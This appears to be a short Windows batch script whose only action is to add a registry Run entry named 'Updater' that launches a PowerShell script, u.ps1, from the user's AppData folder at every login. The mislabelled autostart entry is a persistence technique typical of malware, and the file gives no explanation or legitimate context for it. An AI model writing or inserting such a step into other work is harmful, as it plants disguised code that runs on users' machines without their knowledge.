@echo off
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "%APPDATA%\u.ps1" /f
